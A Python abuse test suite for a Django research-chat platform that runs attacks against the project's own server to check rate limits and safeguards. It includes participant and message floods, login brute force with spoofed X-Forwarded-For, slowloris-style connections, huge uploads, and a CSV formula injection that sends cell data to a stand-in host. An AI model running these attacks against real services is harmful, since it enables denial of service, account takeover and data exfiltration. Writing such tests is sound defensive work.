"""The cases of the abuse suite (bench/abuse.py runs them): each does what an attacker did in issue 21's attack,
over HTTP and websockets against the running server, and returns whether the limit held, what was measured,
and the numbers. Study data are set up through the ORM on the suite's own database; the attacks themselves go
through the server only."""

from __future__ import annotations

import asyncio
import contextlib
import csv
import io
import json
import math
import re
import statistics
import subprocess
import threading
import time
import uuid
from collections import Counter
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import httpx
from abuse import LIMITS, STUDY_NEW_PER_MINUTE, Case, Site, new_id, rss_mb

MB = 2**20
MSG = re.compile(r'id="msg-(\d+)" data-seq="\d+" data-status="(\w+)"(?: data-client-id="([^"]+)")?')
ERROR = re.compile(r'<div id="chat-error"[^>]*>([^<]+)</div>')
SIGNALS = {"pasted": False, "paste_chars": 0, "typed_chars": 24, "typing_ms": 6000, "hidden_ms": 0}


# --------------------------------------------------------------------------------------------- clients


class Browser:
    """One client: its cookies, and its address as the proxy (the suite) reports it. ``claimed`` is what the
    client writes into X-Forwarded-For itself (the proxy appends the real address after it)."""

    def __init__(self, site: Site, address: str | None = None, claimed: str = "") -> None:
        self.site = site
        self.address = address or site.address()
        self.claimed = claimed
        self.http = httpx.Client(base_url=site.base, follow_redirects=False, timeout=120)

    def headers(self) -> dict[str, str]:
        return {"X-Forwarded-For": f"{self.claimed}, {self.address}" if self.claimed else self.address}

    def get(self, path: str, **params: Any) -> httpx.Response:
        return self.http.get(path, params=params or None, headers=self.headers())

    def post(self, path: str, data: dict[str, Any] | None = None, *, page: str | None = None) -> httpx.Response:
        """POST a form with the CSRF token (the page ``page``, or ``path``, is fetched first when needed)."""
        if "csrftoken" not in self.http.cookies:
            self.get(page or path)
        token = self.http.cookies.get("csrftoken", "")
        return self.http.post(path, data={**(data or {}), "csrfmiddlewaretoken": token}, headers=self.headers())

    def cookie_header(self) -> str:
        return "; ".join(f"{c.name}={c.value}" for c in self.http.cookies.jar)

    def login(self, username: str, password: str = "pw") -> int:
        return self.post("/accounts/login/", {"username": username, "password": password}).status_code


def start_session(b: Browser, slug: str, pid: str, submission: str = "") -> int | None:
    """A worker's way in: the Prolific link, consent, the first chat page. The session id, or None if refused."""
    r = b.get(f"/s/{slug}/", PROLIFIC_PID=pid, STUDY_ID="st", SESSION_ID=submission or new_id())
    if r.status_code != 302:
        return None
    b.post(f"/s/{slug}/consent/", {"agree": "yes"})
    r = b.get(f"/s/{slug}/next/")
    found = re.search(r"/chat/(\d+)/", r.headers.get("location", ""))
    if not found:
        return None
    b.get(f"/chat/{found.group(1)}/")
    return int(found.group(1))


async def connect(b: Browser, session_id: int) -> Any:
    from websockets.asyncio.client import connect as ws_connect

    return await ws_connect(
        f"{b.site.ws}/ws/chat/{session_id}/", origin=b.site.base,  # type: ignore[arg-type]
        additional_headers={"Cookie": b.cookie_header(), **b.headers()}, open_timeout=20, ping_interval=None,
        max_size=None,
    )  # fmt: skip


async def say(ws: Any, text: str, signals: Any = SIGNALS, timeout: float = 60) -> str:
    """Send one message and wait for its reply to complete; "" when it did, else the refusal's text."""
    cid = uuid.uuid4().hex
    frame: dict[str, Any] = {"type": "message", "client_id": cid, "text": text}
    if signals is not None:
        frame["signals"] = signals
    await ws.send(json.dumps(frame))
    user_seq = 0
    end = time.monotonic() + timeout
    while time.monotonic() < end:
        data = str(await asyncio.wait_for(ws.recv(), timeout=max(0.1, end - time.monotonic())))
        error = ERROR.search(data)
        if error and error.group(1).strip():
            return error.group(1).strip()
        for m in MSG.finditer(data):
            seq, status, client = int(m.group(1)), m.group(2), m.group(3)
            if client == cid:
                user_seq = seq
            elif user_seq and seq == user_seq + 1 and status in ("complete", "failed"):
                return "" if status == "complete" else "the reply failed"
    return "no answer in time"


# ---------------------------------------------------------------------------------------------- setup


def make_study(name: str, **fields: Any) -> Any:
    """An open study on the fake endpoint: one session of one message, every default limit but the flood's."""
    from django.contrib.auth.models import User

    from studies.models import Arm, Study

    rita, _ = User.objects.get_or_create(username="rita", defaults={"is_staff": True, "is_superuser": True})
    if not rita.password:
        rita.set_password("pw")
        rita.save()
    design = {"sessions_per_episode": 1, "episodes_per_worker": 1, "min_user_turns": 1, **fields}
    study = Study.objects.create(name=name, status=Study.Status.OPEN, created_by=rita, **design)
    study.add_default_metrics()
    Arm.objects.create(study=study, name="fake", memory_system="none", llm_backend="openai", llm_model="fake-model")
    return study


def database_mb(site: Site) -> float:
    from django.db import connection

    with connection.cursor() as cur:
        cur.execute("SELECT pg_database_size(current_database())")
        return float(cur.fetchone()[0]) / MB


def researcher(site: Site) -> Browser:
    make_study(f"owner {uuid.uuid4().hex[:6]}")  # makes rita
    b = Browser(site)
    assert b.login("rita") == 302, "the researcher could not log in"
    return b


def warm_up(site: Site) -> None:
    """A few ordinary turns, so that every reply worker process has imported the app before the first case."""
    study = make_study(f"warm-up {uuid.uuid4().hex[:6]}")

    async def one(b: Browser, sid: int) -> None:
        ws = await connect(b, sid)
        for i in range(2):
            await say(ws, f"warming up {i}")
        await ws.close()

    browsers = [Browser(site) for _ in range(4)]
    sessions = [start_session(b, study.slug, new_id()) for b in browsers]

    async def go() -> None:
        await asyncio.gather(*(one(b, sid) for b, sid in zip(browsers, sessions, strict=True) if sid))

    asyncio.run(go())


# --------------------------------------------------------------------------------------------- floods


@dataclass
class Flood:
    participants: int = 0
    entries_refused: int = 0
    turns: int = 0
    refusals: Counter[str] = field(default_factory=Counter)


async def _flooder(site: Site, slug: str, address: Any, deadline: float, stats: Flood) -> None:
    """One attacker's socket: invent a participant, chat until refused, invent the next."""
    while time.monotonic() < deadline:
        b = Browser(site, address=address())
        sid = await asyncio.to_thread(start_session, b, slug, new_id())
        if sid is None:
            stats.entries_refused += 1
            await asyncio.sleep(0.5)
            continue
        stats.participants += 1
        try:
            ws = await connect(b, sid)
        except Exception:  # noqa: BLE001
            continue
        try:
            while time.monotonic() < deadline:
                refused = await say(ws, f"flood {uuid.uuid4().hex[:8]} " + "x" * 200)
                if refused:
                    stats.refusals[refused[:60]] += 1
                    break
                stats.turns += 1
        except Exception as exc:  # noqa: BLE001 (a closed socket: invent the next one)
            stats.refusals[f"{type(exc).__name__}: {exc}"[:60]] += 1
        finally:
            with contextlib.suppress(Exception):
                await ws.close()


def _most_in_a_minute(times: list[float]) -> int:
    """The most events in any 60 s span."""
    times = sorted(times)
    most, j = 0, 0
    for i, t in enumerate(times):
        while times[j] < t - 60:
            j += 1
        most = max(most, i - j + 1)
    return most


def _flood(site: Site, one_address: bool) -> tuple[bool, str, dict[str, Any]]:
    from chat.models import Message
    from studies.models import Participant

    study = make_study(f"flood {uuid.uuid4().hex[:6]}", max_new_participants_per_minute=STUDY_NEW_PER_MINUTE)
    seconds = 30.0 if site.quick else 120.0
    attacker = site.address()
    address = (lambda: attacker) if one_address else site.address
    calls0, mb0, t0 = site.llm_requests(), database_mb(site), time.monotonic()
    stats = Flood()
    samples: list[tuple[float, int]] = []
    sampling = threading.Event()

    def sample() -> None:  # the endpoint's request count twice a second: the LLM calls in any 60 s
        while not sampling.is_set():
            samples.append((time.monotonic(), site.llm_requests()))
            time.sleep(0.5)

    sampler = threading.Thread(target=sample, daemon=True)
    sampler.start()

    async def go() -> None:
        end = time.monotonic() + seconds
        await asyncio.gather(*(_flooder(site, study.slug, address, end, stats) for _ in range(8)))

    asyncio.run(go())
    time.sleep(3)  # replies still streaming at the deadline finish
    sampling.set()
    sampler.join()
    elapsed = time.monotonic() - t0
    calls = site.llm_requests() - calls0
    grown = database_mb(site) - mb0
    calls_60 = max((n2 - n1 for t1, n1 in samples for t2, n2 in samples if 0 <= t2 - t1 <= 60), default=0)
    made = list(Participant.objects.filter(study=study).values_list("created_at", flat=True))
    stored = list(
        Message.objects.filter(session__episode__participant__study=study, speaker="user").values_list(
            "created_at", flat=True
        )
    )
    made_60 = _most_in_a_minute([t.timestamp() for t in made])
    stored_60 = _most_in_a_minute([t.timestamp() for t in stored])
    call_limit = int(LIMITS["LLM_CALLS_PER_MINUTE"])
    if one_address:
        new_limit = int(LIMITS["NEW_PARTICIPANTS_PER_ADDRESS_PER_MINUTE"])
        message_limit = int(LIMITS["CHAT_MESSAGES_PER_ADDRESS_PER_MINUTE"])
        held = calls_60 <= call_limit and made_60 <= new_limit and stored_60 <= message_limit
        limits = f"limits: {call_limit} calls, {new_limit} participants, {message_limit} messages"
    else:
        new_limit, message_limit = STUDY_NEW_PER_MINUTE, call_limit
        held = calls_60 <= call_limit and made_60 <= new_limit
        limits = f"limits: {call_limit} calls, {new_limit} participants"
    numbers = {"seconds": round(elapsed, 1), "llm_calls": calls, "llm_calls_most_in_60s": calls_60,
               "participants": len(made), "participants_most_in_60s": made_60, "user_messages": len(stored),
               "user_messages_most_in_60s": stored_60, "db_mb": round(grown, 2),
               "db_mb_per_hour": round(grown * 3600 / elapsed, 1), "entries_refused": stats.entries_refused,
               "refusals": dict(stats.refusals.most_common(4)),
               "limits": {"llm_calls": call_limit, "participants": new_limit, "messages": message_limit}}  # fmt: skip
    measured = (
        f"8 sockets, {elapsed:.0f} s, {len(made)} invented participants, {len(stored)} turns, {calls} LLM calls; most in "
        f"any 60 s: {calls_60} calls, {made_60} participants, {stored_60} turns ({limits}); database "
        f"+{grown:.2f} MB ({grown * 3600 / elapsed:.0f} MB/h)"
    )
    return held, measured, numbers


def flood_one_client(site: Site) -> tuple[bool, str, dict[str, Any]]:
    return _flood(site, one_address=True)


def flood_many_addresses(site: Site) -> tuple[bool, str, dict[str, Any]]:
    return _flood(site, one_address=False)


# -------------------------------------------------------------------------------------------- entries


def quota_invented_ids(site: Site) -> tuple[bool, str, dict[str, Any]]:
    study = make_study(f"quota {uuid.uuid4().hex[:6]}", quota=3)
    for _ in range(3):  # consent, and stop there: no session opened
        b = Browser(site)
        b.get(f"/s/{study.slug}/", PROLIFIC_PID=new_id(), STUDY_ID="st", SESSION_ID=new_id())
        b.post(f"/s/{study.slug}/consent/", {"agree": "yes"})
    real = Browser(site)
    sid = start_session(real, study.slug, new_id())
    return (
        sid is not None,
        "a real worker " + ("started" if sid else "was turned away") + " after 3 invented IDs consented",
        {},
    )


def pid_squatting(site: Site) -> tuple[bool, str, dict[str, Any]]:
    study = make_study(f"squat {uuid.uuid4().hex[:6]}")
    victim = new_id()
    squatter = Browser(site)
    start_session(squatter, study.slug, victim, submission="invented-submission")
    real = Browser(site)
    sid = start_session(real, study.slug, victim, submission=new_id())  # the worker's own link from Prolific
    return (
        sid is not None,
        "the real worker, after a squatter consented with their PID: " + ("chatting" if sid else "locked out"),
        {},
    )


def resume_codes(site: Site) -> tuple[bool, str, dict[str, Any]]:
    from studies.models import Participant

    study = make_study(f"resume {uuid.uuid4().hex[:6]}")
    pid, submission = new_id(), new_id()
    worker = Browser(site)
    start_session(worker, study.slug, pid, submission)
    code = Participant.objects.get(study=study, external_id=f"prolific:{pid}").resume_code
    attacker = Browser(site)
    url = f"/s/{study.slug}/resume-code/"
    attacker.get(f"/s/{study.slug}/", PROLIFIC_PID=pid, STUDY_ID="st", SESSION_ID=submission)  # the 409 page
    statuses = [attacker.post(url, {"pid": pid, "code": f"2222-{i:04d}"}).status_code for i in range(14)]
    phone = Browser(site)
    phone.get(f"/s/{study.slug}/", PROLIFIC_PID=pid, STUDY_ID="st", SESSION_ID=submission)
    mine = phone.post(url, {"pid": pid, "code": code}).status_code
    held = statuses[-1] == 429 and mine == 302
    return (
        held,
        f"14 wrong codes from one address: last answered {statuses[-1]}; the worker's own code from another: {mine}",
        {"attacker": statuses, "worker": mine},
    )


# -------------------------------------------------------------------------------------------- logins


def login_throttle(site: Site) -> tuple[bool, str, dict[str, Any]]:
    researcher(site)  # rita exists, with password "pw"
    site.forget_limits()
    from axes.models import AccessAttempt

    AccessAttempt.objects.all().delete()
    # the researcher's own browser logged in before, from the office address
    office = site.address()
    mine = Browser(site, address=office)
    mine.login("rita")
    mine.post("/accounts/logout/")
    attacker_address = site.address()
    rotating = [
        Browser(site, address=attacker_address, claimed=f"203.0.113.{i}").login("rita", "wrong") for i in range(12)
    ]
    rotated_out = Browser(site, address=attacker_address, claimed="203.0.113.99").login("rita", "pw")
    claims = [Browser(site, address=attacker_address, claimed=office).login("rita", "wrong") for _ in range(12)]
    same_nat = [Browser(site, address=office).login("rita", "wrong") for _ in range(12)]  # a colleague, same NAT
    researcher_ok = mine.login("rita")
    held = rotated_out == 429 and researcher_ok == 302
    return (
        held,
        (
            f"12 failures with a rotating X-Forwarded-For, then the right password: {rotated_out}; after claims of the "
            f"researcher's address and 12 failures from the researcher's own NAT, the researcher's browser: {researcher_ok}"
        ),
        {"rotating": rotating, "claims": claims, "same_nat": same_nat},
    )


# ------------------------------------------------------------------------------------------- uploads


def _big_post(site: Site, path: str, mb: int, out: list[int]) -> None:
    import socket

    head = (f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Forwarded-For: {site.address()}\r\n"
            f"Content-Type: multipart/form-data; boundary=x\r\nContent-Length: {mb * MB}\r\n\r\n").encode()  # fmt: skip
    with socket.create_connection(("127.0.0.1", site.stack.web_port), timeout=60) as s:
        s.sendall(head)
        block = b"w,u,arm,50\n" * 100_000
        sent = 0
        with contextlib.suppress(OSError):
            while sent < mb * MB:
                s.sendall(block)
                sent += len(block)
        try:
            answer = s.recv(64)
        except OSError:
            answer = b""
    out.append(int(answer.split()[1]) if answer.startswith(b"HTTP/1.1") else 0)


def anonymous_uploads(site: Site) -> tuple[bool, str, dict[str, Any]]:
    study = make_study(f"upload {uuid.uuid4().hex[:6]}")
    pid = site.daphne_pid()

    def login_page_seconds(n: int) -> list[float]:
        out = []
        for _ in range(n):
            t = time.perf_counter()
            httpx.get(f"{site.base}/accounts/login/", headers={"X-Forwarded-For": site.address()}, timeout=60)
            out.append(time.perf_counter() - t)
            time.sleep(0.25)
        return out

    before = login_page_seconds(8)
    rss0 = rss_mb(pid)
    statuses: list[int] = []
    stop = time.monotonic() + (10 if site.quick else 30)

    def attacker() -> None:
        while time.monotonic() < stop:
            _big_post(site, f"/studies/{study.slug}/analysis/import/", 50, statuses)

    threads = [threading.Thread(target=attacker) for _ in range(2)]
    for t in threads:
        t.start()
    during = login_page_seconds(20)
    peak = rss_mb(pid)
    for t in threads:
        t.join()
    p95_before, p95_during = sorted(before)[-1], sorted(during)[int(0.95 * (len(during) - 1))]
    held = bool(statuses) and set(statuses) == {413} and p95_during < max(0.5, 5 * p95_before) and peak - rss0 < 50
    return held, (
        f"2 clients POSTing 50 MB to the import page anonymously ({len(statuses)} requests, answers {sorted(set(statuses))}): "
        f"login page p95 {p95_before * 1000:.0f} ms before, {p95_during * 1000:.0f} ms during; web process +{peak - rss0:.0f} MB"
    ), {"answers": dict(Counter(statuses)), "login_p95_before_s": round(p95_before, 3), "login_p95_during_s": round(p95_during, 3),
        "rss_growth_mb": round(peak - rss0, 1)}  # fmt: skip


# ----------------------------------------------------------------------------------------- downloads


def downloads(site: Site) -> tuple[bool, str, dict[str, Any]]:
    from chat.models import ChatSession, Episode, LLMCallRecord
    from studies.models import Participant

    rita = researcher(site)
    study = make_study(f"downloads {uuid.uuid4().hex[:6]}")
    mb = 40 if site.quick else 150
    p = Participant.objects.create(study=study, external_id="w", source="invite")
    ep = Episode.objects.create(participant=p, arm=study.arms.get(), index=1)
    session = ChatSession.objects.create(episode=ep, index=1, simulated_start=study.simulated_start)
    prompt = [{"role": "system", "content": "You are a friendly chatbot. " * 100},
              {"role": "user", "content": "Tell me about your week. " * 150}]  # fmt: skip
    records = mb * MB // 8000
    for i in range(0, records, 2000):
        LLMCallRecord.objects.bulk_create(
            LLMCallRecord(session=session, purpose="reply", model="m", messages=prompt, reply="A reply. " * 50)
            for _ in range(min(2000, records - i))
        )
    pid = site.daphne_pid()
    before = rss_mb(pid)
    sizes: list[int] = []

    def download() -> None:
        with httpx.stream("GET", f"{site.base}/studies/{study.slug}/data/llm-calls.jsonl", timeout=600,
                          headers={"Cookie": rita.cookie_header(), **rita.headers()}) as r:  # fmt: skip
            sizes.append(sum(len(chunk) for chunk in r.iter_bytes()))

    threads = [threading.Thread(target=download) for _ in range(4)]
    for t in threads:
        t.start()
    peak = before
    while any(t.is_alive() for t in threads):
        peak = max(peak, rss_mb(pid))
        time.sleep(0.1)
    size = statistics.median(sizes) / MB if sizes else 0
    # what a download may hold: a block and a chunk of rows, whatever the export's size (collected: 4 copies)
    held = len(sizes) == 4 and size > mb * 0.5 and peak - before < 64
    return (
        held,
        f"4 parallel downloads of a {size:.0f} MB export: web process {before:.0f} -> {peak:.0f} MB",
        {"export_mb": round(size, 1), "rss_before_mb": round(before), "rss_peak_mb": round(peak)},
    )


# --------------------------------------------------------------------------------------- slow clients


async def _slow(site: Site, head: bytes, piece: bytes, limit: float) -> float:
    """Send ``head``, then ``piece`` each second; the seconds until the server closed (``limit`` if it did not)."""
    start = time.monotonic()
    reader, writer = await asyncio.open_connection("127.0.0.1", site.stack.web_port)
    writer.write(head)
    try:
        while time.monotonic() - start < limit:
            try:
                data = await asyncio.wait_for(reader.read(4096), timeout=1.0)
                if not data:
                    return time.monotonic() - start
            except TimeoutError:
                writer.write(piece)
                await writer.drain()
    except (ConnectionError, OSError):
        return time.monotonic() - start
    finally:
        writer.close()
    return limit


def slow_clients(site: Site) -> tuple[bool, str, dict[str, Any]]:
    timeout = float(LIMITS["HTTP_READ_TIMEOUT_SECONDS"])
    n = 100 if site.quick else 500
    limit = timeout * 4 + 10
    header = f"GET /accounts/login/ HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Forwarded-For: {site.address()}\r\n".encode()
    body = (b"POST /accounts/login/ HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/x-www-form-urlencoded\r\n"
            b"Content-Length: 1000000\r\n\r\n")  # fmt: skip

    async def go() -> list[float]:
        return await asyncio.gather(
            *(_slow(site, header, b"X", limit) for _ in range(n)), *(_slow(site, body, b"a", limit) for _ in range(n))
        )

    closed = asyncio.run(go())
    late = sum(1 for s in closed if s > timeout + 10)
    held = late == 0
    return (
        held,
        (
            f"{n} slow-header and {n} slow-body connections (a byte a second): closed after {min(closed):.1f}-{max(closed):.1f} s "
            f"(timeout {timeout:.0f} s); {late} still open {timeout + 10:.0f} s in"
        ),
        {"connections": 2 * n, "closed_max_s": round(max(closed), 1), "late": late},
    )


# ------------------------------------------------------------------------------------------ the socket


def socket_replays(site: Site) -> tuple[bool, str, dict[str, Any]]:
    from chat.models import Message

    study = make_study(f"replay {uuid.uuid4().hex[:6]}")
    b = Browser(site)
    sid = start_session(b, study.slug, new_id())
    assert sid is not None
    Message.objects.bulk_create(
        Message(session_id=sid, seq=i, speaker="user" if i % 2 else "bot", text="y" * 2000, client_id=f"c{i}" if i % 2 else None)
        for i in range(1, 61)
    )  # fmt: skip
    seconds = 10.0 if site.quick else 30.0

    async def go() -> tuple[int, int]:
        sockets = [await connect(b, sid) for _ in range(4)]
        received = replays = 0
        end = time.monotonic() + seconds

        async def reader(ws: Any) -> None:
            nonlocal received, replays
            with contextlib.suppress(Exception):
                while time.monotonic() < end:
                    data = str(await asyncio.wait_for(ws.recv(), timeout=max(0.1, end - time.monotonic())))
                    received += len(data)
                    replays += "msg-60" in data

        async def writer(ws: Any) -> None:
            with contextlib.suppress(Exception):
                while time.monotonic() < end:
                    await ws.send(json.dumps({"type": "resume", "last_seq": 0}))
                    await asyncio.sleep(0.005)

        await asyncio.gather(*(reader(ws) for ws in sockets), *(writer(ws) for ws in sockets))
        for ws in sockets:
            await ws.close()
        return received, replays

    received, replays = asyncio.run(go())
    transcript = 60 * 2000
    held = replays <= 12 * math.ceil(seconds / 60) + 1 and received < 20 * transcript
    return (
        held,
        (
            f"4 sockets sending resume as fast as they can for {seconds:.0f} s: {replays} full replays, "
            f"{received / MB:.1f} MB sent"
        ),
        {"replays": replays, "mb": round(received / MB, 2)},
    )


# ----------------------------------------------------------------------------------- worker quality


def unmeasured_signals(site: Site) -> tuple[bool, str, dict[str, Any]]:
    from chat.quality import study_quality

    study = make_study(f"signals {uuid.uuid4().hex[:6]}", min_user_turns=4)
    b = Browser(site)
    sid = start_session(b, study.slug, new_id())
    assert sid is not None

    async def go() -> list[str]:
        ws = await connect(b, sid)
        out = [
            await say(ws, f"scripted message {i}", signals=None if i % 2 else {"typed_chars": "lots"}) for i in range(4)
        ]
        await ws.close()
        return out

    answers = asyncio.run(go())
    flags = [r.authenticity.flags for r in study_quality(study) if r.participant.episodes.exists()]
    held = bool(flags) and "unmeasured" in flags[0]
    return (
        held,
        f"a script sent 4 messages without or with unreadable signals: flags {flags[0] if flags else []}",
        {"answers": answers},
    )


def _ended_with_check(site: Site) -> tuple[Any, Browser, int, str]:
    from studies.models import AttentionCheck

    study = make_study(f"rating {uuid.uuid4().hex[:6]}")
    AttentionCheck.objects.create(study=study, position=1, target=80, tolerance=5)
    b = Browser(site)
    sid = start_session(b, study.slug, new_id())
    assert sid is not None

    async def go() -> str:
        ws = await connect(b, sid)
        answer = await say(ws, "hello there")
        await ws.close()
        return answer

    assert asyncio.run(go()) == ""
    b.post(f"/chat/{sid}/end/", page=f"/chat/{sid}/")
    return study, b, sid, b.get(f"/chat/{sid}/rate/").text


def attention_markup(site: Site) -> tuple[bool, str, dict[str, Any]]:
    study, b, sid, page = _ended_with_check(site)
    names = re.findall(r'<input type="range"[^>]* name="([^"]+)"', page)
    legends = [
        re.sub(r"<svg.*?</svg>", "", x, flags=re.S) for x in re.findall(r"<legend[^>]*>(.*?)</legend>", page, re.S)
    ]
    same_names = len(names) == 6 and all(re.fullmatch(r"r[0-9a-f]{12}", n) for n in names)
    no_digits = not any(re.search(r"[0-9]", x) for x in legends)
    # the attacker's script: random values, and the value a statement names for its slider
    found = [re.search(r"set this slider to (\d+)", x) for x in legends]
    held = same_names and no_digits and not any(found)
    return held, f"{len(names)} sliders named alike: {same_names}; a digit in a statement's text: {not no_digits}", {}


def absurd_numbers(site: Site) -> tuple[bool, str, dict[str, Any]]:
    study, b, sid, page = _ended_with_check(site)
    names = re.findall(r'<input type="range"[^>]* name="([^"]+)"', page)
    statuses = []
    for value in ("9" * 5000, "²"):
        data = dict.fromkeys(names, value) | {f"touched_{n}": "1" for n in names}
        statuses.append(b.post(f"/chat/{sid}/rate/", data).status_code)
    rita = researcher(site)
    url = f"/studies/{study.slug}/checks/"
    for data in ({"kind": "readiness", "arm": "²"}, {"kind": "readiness", "arm": "9" * 5000},
                 {"kind": "evaluation", "max_questions": "9" * 5000}, {"kind": "evaluation", "max_questions": "²"}):  # fmt: skip
        statuses.append(rita.post(url, data, page=f"/studies/{study.slug}/").status_code)
    held = all(400 <= s < 500 for s in statuses)
    return (
        held,
        f"5,000-digit and ² values in the rating form and the staff check forms: {statuses}",
        {"statuses": statuses},
    )


# --------------------------------------------------------------------------------------- researcher side


def admin_ownership(site: Site) -> tuple[bool, str, dict[str, Any]]:
    from django.contrib.auth.models import Permission, User

    from studies.tests.test_study_form import _RenderedForm

    study = make_study(f"owned {uuid.uuid4().hex[:6]}")
    oscar, _ = User.objects.get_or_create(username="oscar", defaults={"is_staff": True})
    oscar.set_password("pw")
    oscar.save()
    oscar.user_permissions.add(*Permission.objects.filter(codename__in=["change_study", "view_study"]))
    study.shared_with.add(oscar)
    b = Browser(site)
    b.login("oscar")
    url = f"/admin/studies/study/{study.pk}/change/"
    form = _RenderedForm()
    form.feed(b.get(url).text)
    response = b.post(url, {**form.data, "created_by": str(oscar.pk), "shared_with": []})
    study.refresh_from_db()
    held = study.created_by.username == "rita" and list(study.shared_with.all()) == [oscar]
    return (
        held,
        f"a researcher the study is shared with posted created_by=themselves ({response.status_code}): creator is "
        + (study.created_by.username),
        {},
    )


def qc_switch(site: Site) -> tuple[bool, str, dict[str, Any]]:
    from studies.tests.test_study_form import _RenderedForm

    rita = researcher(site)
    study = make_study(f"qc {uuid.uuid4().hex[:6]}")
    url = f"/studies/{study.slug}/edit/"
    form = _RenderedForm()
    form.feed(rita.get(url).text)
    i = next(k.split("-")[1] for k, v in form.data.items() if k.endswith("-memory_system") and v == "none")
    response = rita.post(url, {**form.data, f"arms-{i}-memory_system": "qc", f"arms-{i}-params": "{}"})
    held = response.status_code == 400 and not study.arms.filter(memory_system="qc").exists()
    return held, f"switching an open study's arm to qc from the study page: HTTP {response.status_code}", {}


def csv_readme(site: Site) -> tuple[bool, str, dict[str, Any]]:
    import pandas as pd

    rita = researcher(site)
    study = make_study(f"csv {uuid.uuid4().hex[:6]}")
    study.name = 'Memory, =HYPERLINK("http://evil.example/?"&A1,"x")'
    study.save()
    metric = study.metrics.first()
    metric.statement = "It\rremembered;=1+1\u2028and\tthat"
    metric.save()
    text = rita.get(f"/studies/{study.slug}/data/ratings.csv").text
    n = int(text.splitlines()[0].strip('"').split()[1])
    header = text.splitlines()[:n]
    cells = [
        c for sep in (",", ";", "\t") for row in csv.reader(io.StringIO("\n".join(header)), delimiter=sep) for c in row
    ]
    table = pd.read_csv(io.StringIO(text), skiprows=n)
    held = all(c.startswith("#") for c in cells) and list(table.columns)[:2] == ["worker", "episode"]
    return (
        held,
        f"README header of {n} lines: every cell starts with #: {all(c.startswith('#') for c in cells)}; "
        f"read_csv(skiprows={n}) columns {list(table.columns)[:3]}",
        {},
    )


def pseudonyms(site: Site) -> tuple[bool, str, dict[str, Any]]:
    from studies.models import Arm, Participant
    from studies.tests.conftest import make_finished_episode

    rita = researcher(site)
    study = make_study(f"pseudo {uuid.uuid4().hex[:6]}")
    Arm.objects.create(study=study, name="full", memory_system="full_history")
    make_finished_episode(study)
    Participant.objects.filter(study=study).update(external_id="prolific:5f1e2d3c4b5a69788796a5b4")
    bodies = {fmt: rita.get(f"/studies/{study.slug}/analysis/export/{fmt}/").text for fmt in ("data", "json", "md")}
    leaked = [fmt for fmt, body in bodies.items() if "5f1e2d3c4b5a69788796a5b4" in body]
    return not leaked, f"analysis exports naming a Prolific ID: {leaked or 'none'}", {}


def power_simulations(site: Site) -> tuple[bool, str, dict[str, Any]]:
    rita = researcher(site)
    study = make_study(f"plan {uuid.uuid4().hex[:6]}")
    url = f"/studies/{study.slug}/plan/"
    big = {"pilot": "assumed", "worker_sd": 11.5, "scale_sd": 0.2, "episode_sd": 10, "session_sd": 10, "residual_sd": 22,
           "careless_rate": 0.05, "effect": 0.05, "effect_unit": "latent", "target": 0.8, "test": "cluster-t",
           "family": "metric", "max_workers": 2000}  # fmt: skip
    jobs, refused = [], 0
    for studies in (1000, 999, 998, 997, 996):
        r = rita.post(url, {**big, "studies": studies})
        if r.status_code == 302:
            jobs.append(r.headers["location"].split("job=")[1].split("#")[0])
        elif "are waiting already" in r.text:
            refused += 1
    spawned = _plan_children(site)
    for job in jobs:
        rita.post(f"{url}{job}/cancel/", page=url)
    end = time.monotonic() + 20
    while _plan_children(site) and time.monotonic() < end:
        time.sleep(0.2)
    left = _plan_children(site)
    states = [re.search(r"cancelled|failed|Simulating|Waiting", rita.get(f"{url}{job}/").text) for job in jobs]
    held = refused >= 1 and not left and all(s and s.group() == "cancelled" for s in states)
    return (
        held,
        (
            f"5 of the largest plans: {len(jobs)} queued or running, {refused} refused; {len(spawned)} simulation process(es) "
            f"before Cancel, {len(left)} 20 s after"
        ),
        {},
    )


def _plan_children(site: Site) -> list[int]:
    out = subprocess.run(["pgrep", "-P", str(site.daphne_pid())], capture_output=True, text=True).stdout
    pids = []
    for pid in out.split():
        with contextlib.suppress(OSError):
            if b"spawn_main" in Path(f"/proc/{pid}/cmdline").read_bytes():  # not the resource tracker
                pids.append(int(pid))
    return pids


CASES = [
    Case("flood-one-client", "High", "invented Prolific IDs from one client, 8 sockets", flood_one_client),
    Case("flood-many-addresses", "High", "the same flood from a new address per participant", flood_many_addresses),
    Case("quota-invented-ids", "Medium", "3 invented IDs consent on a study with a quota of 3", quota_invented_ids),
    Case("anonymous-uploads", "Medium", "anonymous 50 MB POSTs to the import page", anonymous_uploads),
    Case(
        "login-throttle", "Medium", "rotated X-Forwarded-For; a researcher's address claimed or shared", login_throttle
    ),
    Case("downloads", "Medium", "parallel downloads of a large export", downloads),
    Case("admin-ownership", "Medium", "a shared researcher makes themselves the creator", admin_ownership),
    Case("unmeasured-signals", "Medium", "messages without or with unreadable signals", unmeasured_signals),
    Case("csv-readme", "Low", "formulas and line breaks in the CSV README", csv_readme),
    Case("pseudonyms", "Low", "Prolific IDs in the analysis exports", pseudonyms),
    Case("power-simulations", "Low", "the largest plans, queued without bound, cancelled", power_simulations),
    Case("qc-switch", "Low", "an open study's arm switched to qc", qc_switch),
    Case("attention-markup", "Low", "the attention check found by a script", attention_markup),
    Case("pid-squatting", "Low", "a worker's PID used first by someone else", pid_squatting),
    Case("resume-codes", "Low", "a worker's resume-code attempts used up", resume_codes),
    Case("socket-replays", "Low", "resume requests flooded on the socket", socket_replays),
    Case("slow-clients", "Low", "slow-header and slow-body connections", slow_clients),
    Case("absurd-numbers", "Low", "5,000-digit and ² values in forms", absurd_numbers),
]
